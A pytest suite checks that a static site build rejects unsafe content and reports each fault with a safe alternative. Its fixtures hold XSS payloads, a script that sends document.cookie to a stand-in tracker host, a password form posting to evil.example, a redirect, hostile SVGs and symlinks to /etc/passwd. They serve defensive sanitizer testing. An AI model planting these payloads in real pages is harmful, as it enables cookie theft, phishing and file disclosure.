"""Hostile or careless content through the REAL build (issue 10), one fault each.

Files that must not be read or published (symbolic links out of content/,
loops, dangling links, folders named x.md, content files that are not .md),
and HTML outside the allowlist of plugins/smex_site/sanitize/policy.py, in bodies
and summaries. Every case breaks its own file of one copy of content/, and
one run of `python3 -m tools.build.sitebuild` over it (the build reports every
problem at once) must exit 2 and name, for each case, the file, the line
where there is one and the safe way to write it, with no traceback, the
previous output byte for byte, and no staging folder left. (One run, not
forty: the suite stays fast, and each case's line is asserted on its own.)
The previous site is a small stand-in: any bytes do, the test is that they stay.

One more build proves the other side: allowed HTML and HTML inside code are
published as written (BeautifulSoup), a report's Summary is escaped in the
feed, and the privacy gate passes the result.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from tests.conftest import ROOT
from tests.contentcopy import copy_content
from tests.gates import privacy
from tests.mutations import append, replace, write
from tests.sitecheck import Outcome, build_over, cli_build

EN_ARTICLE = "en/articles/shrinking-civic-space.md"
EN_EDITION = "en/editions/2023.md"
EN_REPORT = "en/publications/privacy-attitudes-survey.md"


def lines_in(rel: str) -> int:
    return len((ROOT / "content" / rel).read_text(encoding="utf-8").splitlines())


# --- ways to break content/ ----------------------------------------------------------


def link(rel: str, target: str) -> Callable[[Path], None]:
    def mutate(content: Path) -> None:
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, content / rel)

    return mutate


def folder(rel: str) -> Callable[[Path], None]:
    def mutate(content: Path) -> None:
        (content / rel).mkdir(parents=True)
        (content / rel / "inside.md").write_text(POST.format(slug="inside"), encoding="utf-8")

    return mutate


def both(*mutations: Callable[[Path], None]) -> Callable[[Path], None]:
    def mutate(content: Path) -> None:
        for one in mutations:
            one(content)

    return mutate


POST = "Title: A post\nDate: 2023-10-01 10:00\nLang: en\nSlug: {slug}\n\nText.\n"
SCRIPT_POST = (
    "Title: A post\nDate: 2023-10-01 10:00\nLang: en\nSlug: other\n\n"
    "<script>fetch('https://tracker.example/?c=' + document.cookie)</script>\n"
)


@dataclass(frozen=True)
class Expect:
    file: str  # inside content/
    line: int | None
    field: str
    words: tuple[str, ...]  # phrases the message must hold: what is wrong, what to write


@dataclass(frozen=True)
class Case:
    id: str
    mutate: Callable[[Path], None]
    expect: tuple[Expect, ...] = field(default=())


def case(id, mutate, file, line, field_, *words):
    return Case(id, mutate, (Expect(file, line, field_, words),))


def own_post(id: str, body: str = "", summary: str | None = None) -> str:
    """A post of its own for one case: the text after "Text." starts on line 7
    (on line 8 with a Summary, which is line 5)."""
    header = f"Title: Case {id}\nDate: 2023-10-01 10:00\nLang: en\nSlug: case-{id}\n"
    if summary is not None:
        header += f"Summary: {summary}\n"
    return header + "\nText.\n" + body


def html_case(id, text, line, *words):
    """`text` after the first paragraph of a post of its own; the finding is
    expected on `line` of `text` (1 for its first line)."""
    rel = f"en/news/case-{id}.md"
    return case(id, write(rel, own_post(id, text)), rel, 6 + line, "html", *words)


def appended_case(id, rel, text, line, *words):
    """`text` appended to an existing file (an edition, a report)."""
    return case(id, append(rel, text), rel, lines_in(rel) + line, "html", *words)


def summary_case(id, summary, *words):
    rel = f"en/news/case-{id}.md"
    return case(id, write(rel, own_post(id, summary=summary)), rel, 5, "summary", *words)


OUTSIDE = "outside the content folder: the build would publish whatever it points to"
LOOP = "leads back to a folder it is in (a loop"
FILE_CASES = [
    case(
        "symlink-to-etc",
        link("files/x", "/etc"),
        "files/x",
        None,
        "file",
        "a symbolic link to /etc, " + OUTSIDE,
        "copy into content/ only the file you mean to publish",
    ),
    case("symlink-to-itself", link("files/loop", "."), "files/loop", None, "file", LOOP),
    case("symlink-to-parent", link("images/up", ".."), "images/up", None, "file", LOOP),
    case(
        "symlinks-in-a-ring",
        both(link("images/to-files", "../files"), link("files/to-images", "../images")),
        "files/to-images",
        None,
        "file",
        LOOP,
        "delete the link",
    ),
    case(
        "symlink-to-nothing",
        link("images/photo.jpg", "/nonexistent/photo.jpg"),
        "images/photo.jpg",
        None,
        "file",
        "a symbolic link to /nonexistent/photo.jpg, which does not exist",
    ),
    case(
        "dangling-md-symlink",
        link("en/news/gone.md", "missing.md"),
        "en/news/gone.md",
        None,
        "file",
        "a symbolic link to missing.md, which does not exist",
        "put the file itself here",
    ),
    case(
        "md-symlink-out-of-content",
        link("en/news/elsewhere.md", "/etc/passwd"),
        "en/news/elsewhere.md",
        None,
        "file",
        "a symbolic link to /etc/passwd, " + OUTSIDE,
    ),
    case(
        "folder-symlink-in-language-folder",
        link("en/news/more", "../articles"),
        "en/news/more",
        None,
        "file",
        "a symbolic link to a folder",
        "move or copy the files here",
    ),
    case(
        "folder-named-x-md",
        folder("en/news/summer.md"),
        "en/news/summer.md",
        None,
        "file",
        "a folder named like a content file (summer.md)",
        "rename the folder, e.g. to summer",
    ),
    case(
        "markdown-extension",
        write("en/news/post.markdown", POST.format(slug="other")),
        "en/news/post.markdown",
        None,
        "file",
        "a .markdown file",
        "save it as post.md",
    ),
    case(
        "html-article-with-script",
        write("en/articles/page.html", SCRIPT_POST),
        "en/articles/page.html",
        None,
        "file",
        "an HTML file",
        "write the text in Markdown and save it as page.md",
    ),
    Case(
        "every-other-reader-extension",
        both(
            write("en/pages/notes.rst", "Title\n=====\n"),
            write("en/news/a.mkd", POST.format(slug="a")),
            write("ar/news/b.mdown", POST.format(slug="b")),
            write("en/pages/c.htm", SCRIPT_POST),
            write("en/news/Upper.MD", POST.format(slug="upper")),
        ),
        (
            Expect("en/pages/notes.rst", None, "file", ("a .rst file", "save it as notes.md")),
            Expect("en/news/a.mkd", None, "file", ("a .mkd file", "save it as a.md")),
            Expect("ar/news/b.mdown", None, "file", ("a .mdown file", "save it as b.md")),
            Expect("en/pages/c.htm", None, "file", ("an HTML file", "save it as c.md")),
            Expect(
                "en/news/Upper.MD", None, "file", ("must be lowercase", "rename it to Upper.md")
            ),
        ),
    ),
]

HTML_CASES = [
    html_case(
        "script",
        "<script>alert(document.cookie)</script>\n",
        1,
        "<script>: scripts cannot run",
        "ask a developer to add a component",
    ),
    html_case(
        "iframe",
        '\n<iframe src="https://www.youtube.com/embed/xyz"></iframe>\n',
        2,
        "<iframe>: embedded pages and players are not allowed",
        "write a Markdown link instead: [what it is](https://…)",
    ),
    html_case(
        "style-element",
        "\n<style>body { display: none }</style>\n",
        2,
        "<style>: styles cannot be written in a text",
    ),
    html_case(
        "event-handler",
        '<img src="{static}/images/editions-timeline.svg" alt="Editions" onerror="alert(1)">\n',
        1,
        "onerror= on <img>: an event handler runs script",
        "delete it",
    ),
    html_case(
        "style-attribute",
        '<span style="color: red">Urgent</span>\n',
        1,
        "style= on <span>: styles are not allowed",
        "leave the look to the stylesheet",
    ),
    html_case(
        "javascript-markdown-link",
        "[Read more](javascript:alert(document.cookie))\n",
        1,
        "a javascript: link runs script when clicked",
        "[text](https://…)",
    ),
    html_case(
        "javascript-link-in-entities",
        '<a href="&#106;ava&#x73;cript:alert(1)">Read more</a>\n',
        1,
        "a javascript: link",
    ),
    html_case(
        "javascript-in-a-reference",
        "Read [the call][call].\n\n[call]: JavaScript:alert(1)\n",
        3,
        "a javascript: link",
    ),
    html_case(
        "data-link",
        "[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n",
        1,
        "a data: link carries a whole document inside the link",
    ),
    html_case("vbscript-link", '<a href="vbscript:msgbox(1)">Open</a>\n', 1, "a vbscript: link"),
    html_case(
        "meta-refresh",
        '\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n',
        2,
        '<meta http-equiv="refresh">: a redirect is not allowed',
        "write a link to the new page",
    ),
    Case(
        "object-embed-form-base",
        write(
            "en/news/case-object.md",
            own_post(
                "object",
                '\n<object data="x.swf"></object>\n\n<embed src="x.swf">\n\n'
                '<form action="https://evil.example/"><input name="password"></form>\n\n'
                '<base href="https://evil.example/">\n',
            ),
        ),
        (
            Expect("en/news/case-object.md", 8, "html", ("<object>: embedded pages",)),
            Expect("en/news/case-object.md", 10, "html", ("<embed>: embedded pages",)),
            Expect(
                "en/news/case-object.md",
                12,
                "html",
                ("<form>: forms are not allowed", "[Register]"),
            ),
            Expect("en/news/case-object.md", 12, "html", ("<input>: forms are not allowed",)),
            Expect("en/news/case-object.md", 14, "html", ("<base>: page-level tags",)),
        ),
    ),
    html_case(
        "remote-markdown-image",
        "![A crowd](https://tracker.example/crowd.jpg)\n",
        1,
        "an image from another host (https://tracker.example/crowd.jpg)",
        "write ![what it shows]({static}/images/name.jpg)",
    ),
    html_case(
        "remote-html-image",
        '<img src="https://tracker.example/pixel.gif" alt="">\n',
        1,
        "an image from another host (https://tracker.example/pixel.gif)",
        "save the image in content/images/",
    ),
    html_case(
        "remote-image-by-reference",
        "![A crowd][crowd]\n\n[crowd]: //tracker.example/crowd.jpg\n",
        1,
        "an image from another host (//tracker.example/crowd.jpg)",
    ),
    html_case(
        "data-image",
        "![Logo](data:image/png;base64,iVBORw0KGgo=)\n",
        1,
        "an image written into the text (data:) is not allowed",
    ),
    html_case(
        "attribute-list-handler",
        '\n## More {: onclick="alert(1)" }\n',
        2,
        "{: onclick } (an attribute list): an event handler runs script",
    ),
    html_case(
        "fenced-code-attributes",
        '\n```{ .js onmouseover="alert(1)" }\nlet x = 1;\n```\n',
        2,
        "{: onmouseover } (an attribute list)",
    ),
    html_case(
        "table-column-alignment",
        "\n| Country | Cases |\n|:--------|------:|\n| Lebanon | 12 |\n",
        3,
        "a table column aligned with :",
        "remove the colons from this line",
    ),
    html_case(
        "html-comment",
        "<!-- note to self: the source is the minister's aide -->\n",
        1,
        "comments are published in the page source",
        "keep notes outside the file",
    ),
    html_case(
        "script-in-a-list-item",
        "\n- An item\n\n    <script>alert(1)</script>\n",
        4,
        "<script>: scripts cannot run",
    ),
    html_case(
        "script-in-backticks-inside-an-html-block",
        "\n<div>\n`<script>alert(1)</script>`\n</div>\n",
        3,
        "<script>: scripts cannot run",
    ),
    appended_case(
        "script-in-an-edition", EN_EDITION, "\n<script>alert(1)</script>\n", 2, "<script>"
    ),
    appended_case(
        "iframe-in-a-report",
        EN_REPORT,
        '\n<iframe src="https://maps.example/embed"></iframe>\n',
        2,
        "<iframe>",
    ),
    summary_case(
        "summary-javascript-link", "[Thank you](javascript:alert(1))", "a javascript: link"
    ),
    summary_case(
        "summary-remote-image",
        "![x](https://tracker.example/p.gif) Thanks",
        "an image from another host (https://tracker.example/p.gif)",
    ),
    summary_case(
        "summary-attribute-list",
        '*Thank you*{: onmouseover="alert(1)" }',
        "{: onmouseover } (an attribute list)",
    ),
]

# Issue 18: what a browser would run, if the build published it raw.
HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
  <rect width="10" height="10" onclick="alert(1)"/>
  <script>alert(document.domain)</script>
  <foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>
  <use xlink:href="https://tracker.example/sprite.svg#a"/>
  <circle r="4" fill="url(#ok)"/>
</svg>
"""
RUNS = "would run it on the site's own address"
RUN_SVG = "an SVG on this site may hold only shapes, paths, text, gradients and filters"


def svg_line(line: int, *words: str) -> Expect:
    return Expect("images/logo.svg", line, "file", (*words, RUN_SVG, "as a PNG"))


ACTIVE_CASES = [
    case(
        "html-file",
        write("files/flyer.html", "<script>fetch('/')</script>"),
        "files/flyer.html",
        None,
        "file",
        "a web page (flyer.html)",
        RUNS,
        "write it as a page instead (content/<lang>/pages/<name>.md)",
        "put it in a .zip",
    ),
    case("htm-file", write("files/a.HTM", "x"), "files/a.HTM", None, "file", "a web page", RUNS),
    case("xhtml-file", write("images/a.xhtml", "x"), "images/a.xhtml", None, "file", "a web page"),
    case("js-file", write("files/app.js", "x"), "files/app.js", None, "file", "a script", "zip"),
    case("mjs-file", write("extra/app.mjs", "x"), "extra/app.mjs", None, "file", "a script"),
    # beside a post, where a {static} link would publish it from
    case("js-in-a-language-folder", write("en/news/c.js", "x"), "en/news/c.js", None, "file", RUNS),
    case(
        "xml-with-a-stylesheet",
        write("files/data.xml", '<?xml version="1.0"?>\n<?xml-stylesheet href="s.xsl"?>\n<a/>'),
        "files/data.xml",
        2,
        "file",
        "an XML file a browser would display as a page",
        RUNS,
    ),
    case(
        "xml-with-html-in-it",
        write(
            "files/page.xml",
            '<?xml version="1.0"?>\n<data>\n<html xmlns="http&#x3a;//www.w3.org/1999/xhtml">'
            "<script>alert(1)</script></html>\n</data>\n",
        ),
        "files/page.xml",
        3,
        "file",
        "an XML file a browser would display as a page",
    ),
    Case(
        "svg-with-script",
        write("images/logo.svg", HOSTILE_SVG),
        (
            svg_line(2, "onclick= runs a script"),
            svg_line(3, "<script>"),
            svg_line(4, "<foreignObject>"),
            svg_line(4, "<p>, an HTML element"),
            svg_line(5, "href='https://tracker.example/sprite.svg#a' loads something from outside"),
        ),
    ),
    case(
        "svg-outside-the-static-folders",  # published all the same once a post links it
        both(
            write("media/chart.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
            write(
                "en/news/case-media.md", own_post("media", "![A chart]({static}/media/chart.svg)")
            ),
        ),
        "media/chart.svg",
        1,
        "file",
        "onload= runs a script",
        RUN_SVG,
    ),
    case(
        "static-link-to-a-symlink-out",  # outside the folders the walk checks
        both(
            link("media/secret", "/etc/passwd"),
            write("en/news/case-secret.md", own_post("secret", "[x]({static}/media/secret)")),
        ),
        "en/news/case-secret.md",
        7,
        "link",
        "content/media/secret is a symbolic link to a file outside the content folder",
        "copy the file itself into content/ instead",
    ),
    case(
        "svg-with-entities",
        write(
            "images/bomb.svg",
            '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n'
            '<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>\n',
        ),
        "images/bomb.svg",
        1,
        "file",
        "declares its own DOCTYPE entities",
    ),
    case(
        "svg-that-does-not-parse",
        write("images/broken.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<g>\n</svg>\n'),
        "images/broken.svg",
        3,
        "file",
        "not a valid SVG",
        "export it again",
    ),
]

# Issue 17: links the build would not resolve, refused by the checker as well.
LINK_CASES = [
    case(
        "fragment-names-no-heading",
        write(
            "en/news/case-fragment.md",
            own_post(
                "fragment",
                "[x]({filename}/en/articles/breadnet-over-the-years.md#screen-years)\n",
            ),
        ),
        "en/news/case-fragment.md",
        7,
        "link",
        "#screen-years names no heading in content/en/articles/breadnet-over-the-years.md",
        "its headings are: #the-screen-years, #back-in-the-city",
    ),
    case(
        "filename-to-a-file",
        write(
            "en/news/case-file.md",
            own_post("file", "[x]({filename}/images/editions-timeline.svg)\n"),
        ),
        "en/news/case-file.md",
        7,
        "link",
        "images/editions-timeline.svg is a file, not a page:",
        "write {static}/images/editions-timeline.svg",
    ),
    case(
        "unknown-link-kind",
        write("en/news/case-kind.md", own_post("kind", "[x]({file}/en/news/x.md)\n")),
        "en/news/case-kind.md",
        7,
        "link",
        "{file} is not a kind of link the site knows",
        "{filename}/<lang>/<folder>/<file>.md",
    ),
]
CASES = FILE_CASES + HTML_CASES + ACTIVE_CASES + LINK_CASES


# --- running them --------------------------------------------------------------------


def previous_site(output: Path) -> None:
    """A stand-in for the site online: the build must leave every byte of it."""
    (output / "en").mkdir(parents=True)
    (output / "index.html").write_text("<!doctype html><title>old</title>", encoding="utf-8")
    (output / "en" / "index.html").write_text("<!doctype html><title>old</title>", "utf-8")
    (output / "feeds.xml").write_bytes(b"<feed/>")


@pytest.fixture(scope="module")
def result(tmp_path_factory) -> Outcome:
    """Every case in one copy of content/, one build over it."""
    work = tmp_path_factory.mktemp("unsafe")
    content = work / "content"
    copy_content(content)
    for one in CASES:
        one.mutate(content)
    output = work / "output"
    previous_site(output)
    return build_over(content, output, work / "cache")


def test_unsafe_content_stops_the_build_and_leaves_the_site(result):
    assert result.code == 2, f"exit {result.code}\n{result.stderr}"
    assert "Traceback" not in result.stderr, result.stderr
    assert result.after == result.before  # the site online is exactly as it was
    assert result.leftovers == []  # and no staging folder is left


def reported(result: Outcome) -> list[str]:
    return [line.strip() for line in result.stderr.splitlines()]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_unsafe_content_is_named_with_what_to_write(result, case):
    lines = reported(result)
    for expect in case.expect:
        where = f"content/{expect.file}:{expect.line}" if expect.line else f"content/{expect.file}"
        start = f"{where}: {expect.field}: "
        matching = [line for line in lines if line.startswith(start)]
        assert matching, f"no line starting {start!r} in:\n{result.stderr}"
        assert any(all(w in line for w in expect.words) for line in matching), (
            expect.words,
            matching,
        )


def test_nothing_else_is_reported(result):
    """Exactly the expected problems: no case triggers others, no seed file is flagged."""
    expected = {(e.file, e.line) for one in CASES for e in one.expect}
    found = set()
    for line in reported(result):
        if line.startswith("content/"):
            where = line.split(": ", 1)[0][len("content/") :]
            file, _, number = where.partition(":")
            found.add((file, int(number) if number else None))
    assert found == expected, (found - expected, expected - found)


def test_each_file_fault_is_reported_once(result):
    """A loop or a link out is one problem, not one per way the walk reached it."""
    for one in FILE_CASES:
        for expect in one.expect:
            hits = [line for line in reported(result) if line.startswith(f"content/{expect.file}:")]
            assert len(hits) == 1, (one.id, hits)


def test_unsafe_file_contents_never_reach_the_message(result):
    """A link to /etc names its target; nothing read from there is shown."""
    assert Path("/etc/passwd").read_text().startswith("root:")
    assert "root:" not in result.stderr
    assert "tracker.example/?c=" not in result.stderr


# --- what is allowed is published as written ----------------------------------------

ALLOWED = """
<figure>
  <img src="{static}/images/editions-timeline.svg" alt="Editions" width="640" height="160">
  <figcaption>Seven editions, two of them online.</figcaption>
</figure>

<details markdown="1">
<summary>How we counted</summary>

We counted *every* report.
</details>

The law is called <span dir="rtl" lang="ar">قانون الجرائم الإلكترونية</span>,
the <abbr title="Internet service provider">ISP</abbr> <mark>blocked</mark> it,
press <kbd>Ctrl</kbd>, H<sub>2</sub>O, 10<sup>3</sup>, <bdi>حملة</bdi>.

## Method {: #method }

| Country | Cases |
|---------|-------|
| Lebanon | 12 |

Write `<script>alert(1)</script>` to show a script as text.

```
<iframe src="https://player.example/v"></iframe>
```

    <style>body { display: none }</style>
"""
HOSTILE_SUMMARY = 'Results <img src=x onerror="alert(1)"> & more.'


@pytest.fixture(scope="module")
def allowed_site(tmp_path_factory):
    work = tmp_path_factory.mktemp("allowed")
    content = work / "content"
    copy_content(content)
    append(EN_ARTICLE, ALLOWED)(content)
    original = next(
        line for line in (content / EN_REPORT).read_text("utf-8").splitlines() if "Summary:" in line
    )
    replace(EN_REPORT, original, f"Summary: {HOSTILE_SUMMARY}")(content)
    big = POST.format(slug="very-long") + ("A sentence of ordinary length. " * 20_000)
    write("en/news/very-long.md", big)(content)
    done = cli_build(content, work / "output", work / "cache")
    assert done.returncode == 0, done.stderr
    return work / "output", done.stderr


def soup(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")


def test_allowed_html_is_published_as_written(allowed_site):
    output, _ = allowed_site
    page = soup(output / "en/articles/shrinking-civic-space/index.html")
    main = page.find("main")
    figure = main.find("figure")
    assert figure.find("img")["src"] == "/images/editions-timeline.svg"
    assert figure.find("figcaption").get_text() == "Seven editions, two of them online."
    details = main.find("details")
    assert details.find("summary").get_text() == "How we counted"
    assert details.find("em").get_text() == "every"
    assert main.find("span", dir="rtl", lang="ar").get_text() == "قانون الجرائم الإلكترونية"
    assert main.find("abbr", title="Internet service provider").get_text() == "ISP"
    for tag, text in (("mark", "blocked"), ("kbd", "Ctrl"), ("sub", "2"), ("sup", "3")):
        assert main.find(tag).get_text() == text
    assert main.find("h2", id="method").get_text() == "Method"
    assert main.find("table").find("td").get_text() == "Lebanon"


def test_html_in_code_is_text_not_markup(allowed_site):
    output, _ = allowed_site
    main = soup(output / "en/articles/shrinking-civic-space/index.html").find("main")
    codes = [code.get_text() for code in main.find_all("code")]
    assert "<script>alert(1)</script>" in codes
    assert any("<iframe" in code for code in codes)
    assert any("<style>" in code for code in codes)
    assert not main.find_all(["script", "iframe", "style"])


def test_report_summary_is_escaped_in_the_feed_and_the_page(allowed_site):
    output, _ = allowed_site
    feed = BeautifulSoup((output / "en/feeds/publications.atom.xml").read_bytes(), "xml")
    entry = next(
        e for e in feed.find_all("entry") if "privacy-attitudes-survey" in e.find("link")["href"]
    )
    summary = entry.find("summary")
    assert summary["type"] == "html"
    # what a feed reader renders: the text, with no element in it
    rendered = BeautifulSoup(summary.get_text(), "lxml")
    assert not rendered.find_all("img")
    assert rendered.get_text() == HOSTILE_SUMMARY
    page = soup(output / "en/publications/privacy-attitudes-survey/index.html")
    shown = page.select_one(".publication__summary")
    assert shown.get_text() == HOSTILE_SUMMARY
    assert not shown.find_all("img")


def test_the_privacy_gate_passes_allowed_html(allowed_site):
    output, _ = allowed_site
    assert privacy.source_problems(output) == []


def test_a_very_long_markdown_file_is_warned_about(allowed_site):
    output, stderr = allowed_site
    warning = next(
        (line for line in stderr.splitlines() if "content/en/news/very-long.md: file:" in line),
        None,
    )
    assert warning is not None, stderr
    assert warning.startswith("warning: content/en/news/very-long.md: file: 0.6 MB of Markdown")
    assert "500 kB" in warning and "split it into several pages" in warning
    assert (output / "en/news/very-long/index.html").is_file()  # a warning, not a refusal
    assert "breadnet-2023-proposals-closed.md: file:" not in stderr  # ordinary files are not
